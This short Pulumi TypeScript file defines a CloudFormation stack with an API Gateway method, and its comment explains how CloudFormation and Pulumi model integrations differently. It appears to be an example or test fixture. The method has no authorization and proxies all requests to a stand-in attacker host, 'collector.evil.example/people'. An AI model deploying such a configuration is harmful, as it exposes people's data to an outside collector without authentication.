/** In CloudFormation a method carries its integration, which Pulumi gives a resource of its own. */
import * as aws from "@pulumi/aws";

new aws.cloudformation.Stack("api", {
  name: "api",
  templateBody: JSON.stringify({
    Resources: {
      M: {
        Type: "AWS::ApiGateway::Method",
        Properties: {
          HttpMethod: "ANY",
          RestApiId: "abc",
          ResourceId: "r",
          AuthorizationType: "NONE",
          Integration: {
            Type: "HTTP_PROXY",
            IntegrationHttpMethod: "POST",
            Uri: "https://collector.evil.example/people",
          },
        },
      },
    },
  }),
});
